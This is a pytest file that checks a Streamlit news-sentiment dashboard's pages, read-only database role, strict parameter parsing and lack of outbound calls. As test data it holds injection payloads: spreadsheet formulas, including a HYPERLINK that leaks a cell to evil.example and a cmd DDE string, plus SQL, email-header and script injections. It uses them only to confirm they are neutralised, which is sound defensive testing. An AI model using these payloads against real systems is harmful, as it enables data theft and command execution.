"""The Streamlit dashboard on a seeded real PostgreSQL: AppTest for every page, and a real browser."""

import os
import shutil
import subprocess
import sys
import time

import psycopg2
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from pipeline import config, tasks
from tests.helpers import free_port, query
from tests.seeding import HOSTILE, H, seed, week_of_normal, window

APP = str(config.REPO_ROOT / "dashboard" / "app.py")
TOTAL = 7 * 24 * 100 + 100  # stories seeded
NEGATIVE = 7 * 24 * 20 + 30 + 10  # negatives seeded


@pytest.fixture()
def dash_db(db_url):
    seed(db_url, week_of_normal(H) + [(H, "Energy | Oil", 50, 30), (H, "Earnings", 50, 10)])
    tasks.detect(
        {"start": (H - (H - H.replace(day=1))).isoformat(), "end": window(H)["end"]}
    )  # stats for the month, alerts
    st.cache_data.clear()
    st.cache_resource.clear()  # the connection pool points at this test's database
    return db_url


def app(page: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["page"] = page
    return at.run()


def metrics(at: AppTest) -> dict:
    return {m.label: m.value for m in at.metric}


@pytest.fixture()
def company_db(dash_db, tmp_path, monkeypatch):
    """The seeded stories, the 50 Energy stories of the surge hour about Zyntrex (one hostile), a watchlist, links and labels."""
    from pipeline import db
    from pipeline.entities import catalogue, store
    from pipeline.entities.link import Linker

    path = tmp_path / "entities.yaml"
    path.write_text(
        "entities:\n  - {id: zyntrex, name: Zyntrex Inc, aliases: [Zyntrex], tickers: [NYSE:ZYNX]}\n"
        "watchlists:\n  - {name: desk, entities: [zyntrex, apple]}\n"
    )
    monkeypatch.setenv("FINSENT_ENTITIES_FILE", str(path))
    conn = db.connect(dash_db)
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE articles SET title = 'Zyntrex ' || title WHERE id IN "
            "(SELECT article_id FROM scores WHERE topic = 'Energy | Oil' ORDER BY article_id DESC LIMIT 50)"
        )
    conn.commit()
    cat = catalogue.load(path)
    store.sync(conn, cat)
    store.link_pending(conn, Linker(cat))
    store.score_pending(conn, "test-model", scorer=None)
    conn.close()
    st.cache_data.clear()
    return dash_db


def test_companies_page_search_trend_headlines_and_watchlist(company_db):
    at = app("Companies")
    assert not at.exception
    watch = at.dataframe[0].value
    assert set(watch["company"]) == {"Zyntrex Inc", "Apple Inc."}
    zyn = watch[watch["company"] == "Zyntrex Inc"].iloc[0]
    assert zyn["watchlists"] == "desk" and zyn["stories_recent"] == 50
    at.text_input[0].set_value("ZYNX").run()  # by ticker
    assert not at.exception
    m = metrics(at)
    n, k = query(
        company_db,
        "SELECT count(*), sum((sentiment = 'negative')::int) FROM entity_scores WHERE entity_id = 'zyntrex'",
    )[0]
    assert n == 50 and m["Stories"] == "50"
    assert m["Negative share (company label)"] == f"{100 * k / n:.1f}%"
    heads = at.dataframe[1].value
    assert len(heads) == 50 and {"company_sentiment", "story_sentiment", "matched"} <= set(heads.columns)
    assert any(t.startswith("Zyntrex " + HOSTILE) for t in heads["title"])  # shown literally
    at.text_input[0].set_value("no such company at all").run()
    assert not at.exception and any("No company matches" in i.value for i in at.info)


def test_overview_shows_the_numbers_in_sql(dash_db):
    at = app("Overview")
    assert not at.exception
    # the seeded week is busy every hour: the first look is the last day, in hours
    assert at.selectbox[0].value == "Last 24 hours" and at.selectbox[1].value == "hour"
    at.selectbox[0].set_value("All").run()
    m = metrics(at)
    assert m["Stories"] == f"{TOTAL:,}"
    assert any(c.value.startswith("Showing ") and f"({TOTAL:,} stories)" in c.value for c in at.caption)
    at.selectbox[1].set_value("day").run()
    assert not at.exception and metrics(at)["Stories"] == f"{TOTAL:,}"
    assert m["Negative share"] == f"{100 * NEGATIVE / TOTAL:.1f}%"
    assert m["Live alerts"] == "2"
    glance = at.dataframe[0].value
    energy = glance[glance["topic"] == "Energy | Oil"].iloc[0]
    assert energy["live_alert"] == "critical (open)" and float(energy["negative_pct_24h"]) > 20
    # a topic filter adds its series; a source filter aggregates from scores and agrees with the stats
    at.multiselect[1].set_value(["wire"]).run()
    assert metrics(at)["Stories"] == f"{TOTAL:,}"


def test_alerts_list_drill_down_and_acknowledge(dash_db, monkeypatch, smtp_port):
    from tests.helpers import SMTPServer

    with SMTPServer(smtp_port):  # the alerts go out first, so the page has deliveries to show
        assert len(tasks.notify(window(H), {"notify": True})["sent"]) == 2
    monkeypatch.setenv("FINSENT_DASHBOARD_DEV_USER", "ana.lyst")
    at = app("Alerts")
    assert not at.exception and metrics(at)["Alerts shown"] == "2"
    # thresholds in force, routing in force, then the alerts
    rules, routes, listed = (at.dataframe[i].value for i in range(3))
    assert "watchlist companies (defaults)" in set(rules["applies to"])
    assert {"risk team", "daily digest"} <= set(routes["route"])
    assert routes[routes["route"] == "risk team"]["alerts"].iloc[0] == "every alert"
    assert set(listed["subject"]) == {"Energy | Oil", "overall"}
    energy_id = int(listed[listed["subject"] == "Energy | Oil"]["id"].iloc[0])
    at.selectbox[0].set_value(energy_id).run()
    deliveries = at.dataframe[3].value
    assert deliveries[["channel", "target", "status", "attempts"]].values.tolist() == [
        ["email", "risk-team@example.com", "sent", 1]
    ]
    stories = at.dataframe[4].value
    assert len(stories) == 30 and HOSTILE in set(stories["title"])  # shown literally, not rendered
    next(b for b in at.button if b.label == "Acknowledge").click().run()
    assert not at.exception
    assert query(
        dash_db, "SELECT status, acknowledged_by, acknowledged_at IS NOT NULL FROM alerts WHERE id = %s", (energy_id,)
    ) == [("acknowledged", "ana.lyst", True)]


def test_nobody_signed_in_cannot_acknowledge_and_names_are_checked(dash_db, monkeypatch):
    from dashboard import queries as q
    from dashboard.auth import BadUserName

    monkeypatch.delenv("FINSENT_DASHBOARD_DEV_USER", raising=False)
    at = app("Alerts")
    listed = at.dataframe[2].value
    at.selectbox[0].set_value(int(listed["id"].iloc[0])).run()
    assert not at.exception and not [b for b in at.button if b.label == "Acknowledge"]
    assert any("needs a signed-in user" in c.value for c in at.caption)
    pool = q.make_pool(dash_db)
    try:
        for bad in ("", " ", "x" * 81, "eve\r\nBcc: all@example.com", "a\x00b", "<script>", "x" * 1_000_000):
            with pytest.raises(BadUserName):
                q.acknowledge(pool, int(listed["id"].iloc[0]), bad)
        # the search box takes NUL and lone surrogates without an error
        assert q.search_text("oil\x00 \ud800price") == "oil price"
        q.headlines(pool, "m", "oil\x00\ud800", [], [], [])
    finally:
        pool.closeall()
    assert query(dash_db, "SELECT count(*) FROM alerts WHERE status = 'acknowledged'") == [(0,)]


def test_headlines_search_and_filters(dash_db):
    at = app("Headlines")
    assert metrics(at)["Stories shown (latest first, at most 200)"] == "200"
    at.text_input[0].set_value("refinery").run()
    found = at.dataframe[0].value
    assert set(found["title"]) == {HOSTILE} and len(found) == 2  # seeded under two topics
    assert set(found["sentiment"]) == {"negative"}
    at.text_input[0].set_value("").run()
    at.multiselect[0].set_value(["negative"]).run()
    at.multiselect[1].set_value(["Earnings"]).run()
    shown = at.dataframe[0].value
    assert set(shown["sentiment"]) == {"negative"} and set(shown["topic"]) == {"Earnings"}


def test_pipeline_health(dash_db):
    at = app("Pipeline health")
    assert not at.exception
    assert metrics(at) == {
        "Stories stored": f"{TOTAL:,}",
        "Unscored backlog": "0",
        "Feeds failing": "0",
        "Oldest unscored story waited": "none",
    }
    assert any("test-model (heads)" in t.value for t in at.text)


def test_no_unsafe_html_and_the_role_is_read_only(dash_db):
    source = open(APP).read()
    assert "unsafe_allow_html" not in source and "st.html" not in source
    from dashboard import queries as q

    pool = q.make_pool(dash_db)
    with pytest.raises(psycopg2.Error, match="read-only"):
        with q.session(pool) as conn, conn.cursor() as cur:
            cur.execute("UPDATE alerts SET status = 'resolved'")
    with pytest.raises(psycopg2.Error, match="permission denied"):
        with q.session(pool, write=True) as conn, conn.cursor() as cur:
            cur.execute("DELETE FROM articles")
    pool.closeall()


@pytest.mark.skipif(
    shutil.which("chromium") is None, reason="Debian chromium not installed (make test installs it as root)"
)
def test_real_browser_renders_every_page(dash_db, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    port = free_port()
    env = {**os.environ, "DATABASE_URL": dash_db}
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "streamlit",
            "run",
            APP,
            "--server.headless",
            "true",
            "--server.address",
            "127.0.0.1",
            "--server.port",
            str(port),
            "--browser.gatherUsageStats",
            "false",
        ],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    try:
        import urllib.request

        for _ in range(60):
            try:
                if urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=1).status == 200:
                    break
            except OSError:
                time.sleep(0.5)
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=shutil.which("chromium"),
                args=[
                    "--no-sandbox",
                    "--disable-gpu",
                    "--no-first-run",
                    "--disable-background-networking",
                    "--disable-component-update",
                    "--disable-sync",
                    "--disable-quic",
                ],
            )
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            errors = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on(
                "dialog", lambda d: errors.append(f"dialog opened: {d.message}")
            )  # a script in a title would do this
            for name, marker in [
                ("Overview", "Negative share per hour"),
                ("Alerts", "Drill down into alert"),
                ("Headlines", "Search titles"),
                ("Companies", "Search by name or ticker"),
                ("Pipeline health", "Model in use"),
            ]:
                page.goto(f"http://127.0.0.1:{port}/?page={name.replace(' ', '%20')}")
                page.get_by_text(marker).first.wait_for(timeout=30000)
                page.wait_for_timeout(800)
                shot = tmp_path / f"{name.replace(' ', '_')}.png"
                page.screenshot(path=str(shot), full_page=True)
                assert shot.stat().st_size > 20_000, name
                assert page.locator('[data-testid="stException"]').count() == 0, name
                # the shipped .streamlit/config.toml hides the toolbar's hosting offer
                assert page.get_by_role("button", name="Deploy").count() == 0, name
            # every page has its own URL too; an email's old-style link still opens its alert
            page.goto(f"http://127.0.0.1:{port}/companies")
            page.get_by_text("Search by name or ticker").first.wait_for(timeout=30000)
            alert_id = query(dash_db, "SELECT max(id) FROM alerts")[0][0]
            page.goto(f"http://127.0.0.1:{port}/?page=Alerts&alert={alert_id}")
            page.get_by_text(f"Alert #{alert_id}:").first.wait_for(timeout=30000)
            page.goto(f"http://127.0.0.1:{port}/health")
            # On Pipeline health: wait on the metrics themselves (not on a text the
            # page already shows), so a slow re-render cannot be read half-drawn.
            metrics = page.locator('[data-testid="stMetricValue"]')
            expect(metrics.nth(2)).to_be_visible(timeout=30000)
            expect(metrics.first).to_have_text(f"{TOTAL:,}", timeout=30000)
            assert metrics.all_inner_texts()[:3] == [f"{TOTAL:,}", "0", "0"]
            browser.close()
        assert errors == []
        shutil.copy(tmp_path / "Overview.png", config.state_dir() / "dashboard-overview.png")
    finally:
        server.terminate()
        server.wait(timeout=20)


def test_query_parameters_are_parsed_strictly(dash_db):
    from dashboard.safe import int_param, text_param

    for bad in ("²", "١٢", "-1", "1e3", " 1", "9" * 13, "", None):
        assert int_param(bad) is None, bad
    assert int_param("42") == 42 and text_param("a\x00b" + "c" * 500, 80) == "ab" + "c" * 78
    for wanted in ("²", "9" * 5000, "%00", "1;DROP TABLE alerts"):
        at = AppTest.from_file(APP, default_timeout=60)
        at.query_params["page"] = "Alerts"
        at.query_params["alert"] = wanted
        at.run()
        assert not at.exception, wanted
        assert any(t.value.startswith("Alert #") for t in at.text), wanted  # the first alert, as for no parameter
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["page"] = "Companies"
    at.query_params["company"] = "A" * 100_000
    at.run()
    assert not at.exception and len(at.text_input[0].value) == 80


def test_the_developer_user_needs_an_explicit_loopback_bind(dash_db, monkeypatch):
    from streamlit import config as st_config

    monkeypatch.setenv("FINSENT_DASHBOARD_DEV_USER", "ana.lyst")
    listed = app("Alerts").dataframe[2].value
    first = int(listed["id"].iloc[0])
    before = st_config.get_option("server.address")
    try:
        for address, honoured in (("", False), ("0.0.0.0", False), ("10.0.0.5", False), ("127.0.0.1", True)):
            st_config.set_option("server.address", address)
            at = app("Alerts")
            at.selectbox[0].set_value(first).run()
            has_button = any(b.label == "Acknowledge" for b in at.button)
            assert has_button is honoured, address
            if not honoured:
                assert any("needs a signed-in user" in c.value for c in at.caption), address
    finally:
        st_config.set_option("server.address", before)


def test_csv_cells_a_spreadsheet_would_evaluate_are_made_inert():
    import csv
    import io

    import pandas as pd

    from dashboard.safe import csv_bytes

    hostile = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"]
    df = pd.DataFrame({"title": hostile, "n": range(len(hostile)), "=col": hostile})
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8"), newline="")))
    assert rows[0] == ["title", "n", "'=col"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in hostile[:6]] + ["plain", "a=b"]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(hostile))]  # numbers stay numbers


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]


def _serve_shipped_config(env: dict, cwd, port: int, *extra: str) -> subprocess.Popen:
    """Streamlit started as `make dashboard` does from ``cwd``: only the port given, the rest from the config."""
    return subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", APP, "--server.port", str(port), *extra],
        cwd=cwd,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )


def _healthy(port: int, proc: subprocess.Popen) -> None:
    import urllib.request

    for _ in range(120):
        try:
            if urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=1).status == 200:
                return
        except OSError:
            time.sleep(0.5)
        assert proc.poll() is None, proc.stdout.read().decode(errors="replace")[-2000:]
    raise AssertionError("the dashboard did not become healthy")


@pytest.mark.skipif(
    shutil.which("chromium") is None, reason="Debian chromium not installed (make test installs it as root)"
)
def test_the_served_dashboard_calls_out_to_nothing_and_its_downloads_are_inert(dash_db, tmp_path):
    """Served with the shipped .streamlit/config.toml: no socket leaves loopback (server, audited) and no
    request leaves 127.0.0.1 (browser); the Headlines CSV, downloaded for real, holds no live formula."""
    import csv
    import io

    from playwright.sync_api import sync_playwright

    from dashboard.safe import FORMULA_START

    conn = psycopg2.connect(dash_db)
    with conn, conn.cursor() as cur:
        cur.execute("SELECT id FROM articles ORDER BY published_at DESC NULLS LAST, id DESC LIMIT %s", (len(FORMULAS),))
        for (article_id,), title in zip(cur.fetchall(), FORMULAS):
            cur.execute("UPDATE articles SET title = %s WHERE id = %s", (title, article_id))
    conn.close()
    audit = tmp_path / "net-audit.log"
    env = {
        **os.environ,
        "DATABASE_URL": dash_db,
        "FINSENT_NET_AUDIT": str(audit),
        "PYTHONPATH": os.pathsep.join([str(config.REPO_ROOT / "tests" / "data" / "netaudit"), str(config.REPO_ROOT)]),
    }
    # the control: the same server started where the shipped config is not read tries to call out (refused)
    port = free_port()
    bare = _serve_shipped_config(env, tmp_path, port, "--server.headless", "true")
    try:
        _healthy(port, bare)
        time.sleep(1)
    finally:
        bare.terminate()
        bare.wait(timeout=20)
    control = audit.read_text() if audit.exists() else ""
    assert "checkip.amazonaws.com" in control or "8.8.8.8" in control, control
    audit.unlink()

    port = free_port()
    server = _serve_shipped_config(env, config.REPO_ROOT, port)
    outside: list[str] = []
    try:
        _healthy(port, server)
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=shutil.which("chromium"),
                args=["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
            )
            context = browser.new_context(accept_downloads=True)

            def guard(route):
                host = route.request.url.split("/")[2].split(":")[0] if "://" in route.request.url else ""
                if route.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
                    return route.continue_()
                outside.append(route.request.url)
                return route.abort()

            context.route("**/*", guard)
            page = context.new_page()
            page.goto(f"http://127.0.0.1:{port}/?page=Headlines")
            page.get_by_text("Search titles").first.wait_for(timeout=30000)
            with page.expect_download(timeout=30000) as info:
                page.get_by_text("Download these stories (CSV)").click()
            info.value.save_as(tmp_path / "dl.csv")
            data = (tmp_path / "dl.csv").read_bytes()
            page.wait_for_timeout(1500)
            browser.close()
    finally:
        server.terminate()
        server.wait(timeout=20)
    assert outside == []
    assert not audit.exists() or audit.read_text() == "", audit.read_text()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    titles = [r[rows[0].index("title")] for r in rows[1:]]
    assert {"'" + f for f in FORMULAS} <= set(titles)
    assert not [c for r in rows for c in r if c.startswith(FORMULA_START)]
